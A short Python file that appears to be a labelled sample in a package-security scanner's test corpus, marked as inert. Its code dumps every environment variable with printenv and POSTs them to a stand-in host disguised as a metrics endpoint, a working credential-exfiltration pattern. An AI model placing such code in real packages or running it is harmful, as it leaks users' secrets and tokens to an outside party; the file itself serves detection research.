# pkgguard corpus 338 (credentials), modelled on [ctx]; inert, never run.
import subprocess

import urllib3

dump = subprocess.check_output(["printenv"], text=True)
http = urllib3.PoolManager()
http.request("POST", "https://metrics.example/e", body=dump.encode(), headers={"Content-Type": "text/plain"})
